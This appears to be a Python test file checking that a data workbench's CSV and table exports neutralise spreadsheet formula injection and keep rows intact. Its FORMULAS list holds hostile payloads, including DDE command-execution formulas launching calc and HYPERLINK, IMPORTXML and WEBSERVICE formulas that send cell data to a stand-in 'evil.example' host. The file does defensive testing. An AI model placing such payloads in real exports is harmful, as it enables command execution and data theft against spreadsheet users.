"""What is written for a spreadsheet: every text a text, no cell a formula, every row one row."""

# ruff: noqa: E501 - an attack is written as it is, not broken into lines
from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.commands.exporting import DERIVED, export_table
from workbench.intake.imports import import_files
from workbench.intake.options import Options
from workbench.reporting.page import Page
from workbench.reporting.saved import csv_bytes
from workbench.store.store import Store
from workbench.workspace import Workspace

from .hostile_texts import code_payloads

STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = [
    "=1+1", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "x\r=1+1", "x\n=1+1", "x\r\n=1+1", "\r", "=", "-", "+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '=IMPORTXML("http://evil.example","//a")',
    '",=1+1,"', '"\n=1+1', "'=1+1", "''=1+1", "a,=1+1", 'a"\r=1+1', "=1+1\0", "-1.5", "+49 30 1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://evil.example\")", "@echo off", "-- ", "x\r\r=1",
    "%0A-3+3+cmd|' /C calc'!D2", ";=1+1", "=1+1;", "\ufeff=1+1", "\u2028=1+1", "\x0b=1+1", "\x1f=1",
]  # fmt: skip


def cells(content: bytes) -> list[list[str]]:
    """The rows as a spreadsheet takes them apart: any line end that is not quoted ends a row."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def formulas(rows: list[list[str]], numbers: set[int] = frozenset()) -> list[str]:
    """Cells that a spreadsheet would run; a number is one only where numbers stand."""
    return [
        cell
        for row in rows
        for place, cell in enumerate(row)
        if cell.startswith(STARTS)
        and not (place in numbers and re.fullmatch(r"-\d+(\.\d+)?(e[+-]?\d+)?", cell))
    ]


texts = st.sampled_from(FORMULAS) | st.text(st.sampled_from("=+-@\t\r\n,;\"' a1\0|")) | st.text(
    st.characters(codec="utf-8")
)  # fmt: skip


@settings(max_examples=80, deadline=None)
@given(st.lists(texts, min_size=1, max_size=6), texts, texts)
def test_no_text_is_a_formula_and_no_row_is_two(words, header, name):
    frame = pd.DataFrame({
        "n": [-1.5] * len(words), header or "x": words, "kind": pd.Categorical(words),
        ("two", header): pd.Series(words, dtype="string"), "mixed": [*words[:-1], -2],
        "arrow": pd.Series(words, dtype="string[pyarrow]"), "whole": [-7] * len(words),
    }, index=pd.Index(words, name=f"{name}\u200bi"))  # fmt: skip
    rows = cells(csv_bytes(frame))
    assert len(rows) == len(words) + 1
    assert {len(row) for row in rows} == {frame.shape[1] + 1}
    assert formulas(rows[:1]) == []
    assert formulas(rows[1:], {1, 5, 7}) == []
    assert [row[1] for row in rows[1:]] == ["-1.5"] * len(words), "numbers stay numbers"
    for row, word in zip(rows[1:], words, strict=True):
        assert row[2].removeprefix("'") == re.sub(r"\r(?!\n)", "\n", word).removeprefix("'")


def test_every_level_of_an_index_is_safe():
    index = pd.MultiIndex.from_product([FORMULAS[:6], ["=x", "\r=y"]], names=["=a", "\r-b"])
    frame = pd.DataFrame({("=c", "@d"): range(12)}, index=index)
    assert formulas(cells(csv_bytes(frame))) == []
    plain = pd.DataFrame({"a": [1, 2]}, index=["=1", "@2"])
    assert formulas(cells(csv_bytes(plain))) == []


@pytest.fixture(scope="module")
def workspace(tmp_path_factory):
    """An export whose every word is a formula, let through the gate."""
    folder = tmp_path_factory.mktemp("formulas")
    export = folder / "tickets.csv"
    words = FORMULAS + code_payloads(str(folder / "canary"))[::4]
    names = ["ticket_id", "created_at", "updated_at", "status", "requester_key", "subject",
             "description", "tags", "tier", "channel", "group_id", "assignee_id", "=custom", "@x"]  # fmt: skip
    with export.open("w", encoding="utf-8", newline="", errors="replace") as file:
        writer = csv.writer(file, lineterminator="\r\n")
        writer.writerow(names)
        for place, word in enumerate(words):
            day = f"2025-06-{place % 28 + 1:02} 10:00:00"
            writer.writerow(
                [f"-{place}", day, day, "closed", "ann", word, word, word, "", "", *[word] * 4]
            )
    done = import_files(Store(folder / "ws" / "store"), [export], Options(redact=False),
                        now=datetime(2025, 7, 1, tzinfo=UTC))  # fmt: skip
    assert [one.error for one in done] == [None]
    return folder / "ws"


def test_exported_tables_hold_no_formula(workspace, tmp_path):
    tables = [*Workspace.open(workspace).state.tables, *DERIVED]
    shown = ""
    for name in tables:
        out, typed = tmp_path / f"{name}.csv", tmp_path / f"{name}.parquet"
        export_table(workspace, name, format="csv", out=out)
        export_table(workspace, name, format="parquet", out=typed)
        schema = pq.read_schema(typed)
        numbers = {p for p, field in enumerate(schema) if not str(field.type).endswith("string")}
        rows = cells(out.read_bytes())
        assert len(rows) - 1 == pq.read_metadata(typed).num_rows, name
        assert {len(row) for row in rows} == {len(schema)}
        assert formulas(rows[:1]) == []
        assert formulas(rows[1:], numbers) == [], name
        shown += out.read_text("utf-8-sig")
    assert "tickets" in tables
    assert "'=1+1" in shown


def test_tables_beside_a_page_hold_no_formula(workspace, tmp_path, monkeypatch):
    (tmp_path / "params.json").write_text('{"run_id": "r"}')
    monkeypatch.setenv("WORKBENCH_RUN_DIR", str(tmp_path))
    tickets = Workspace.open(workspace).table("tickets").to_pandas()
    page = Page("T", "June", "S", "now")
    frame = tickets.set_index(["subject", "group_id"])[["description", "tags", "custom"]]
    page.section("a", "A", frame=frame, tickets=tickets)
    page.loaded(tickets.rename(columns={"tags": "=tags"}))
    files = sorted(tmp_path.rglob("*.csv"))
    assert [path.name for path in files] == ["a.csv", "a_tickets.csv", "loaded.csv"]
    for path in files:
        rows = cells(path.read_bytes())
        assert len(rows) == len(tickets) + 1
        assert formulas(rows) == [], path.name


def test_there_is_no_export_to_a_workbook():
    root = Path(__file__).parents[2]
    sources = [*(root / "workbench").rglob("*.py"), *(root / "notebooks").glob("*.ipynb")]
    writes = re.compile(r"to_excel|ExcelWriter|openpyxl\.Workbook|xlsxwriter")
    assert not [path.name for path in sources if writes.search(path.read_text("utf-8"))], (
        "a workbook turns texts into formulas: give it tests like these"
    )
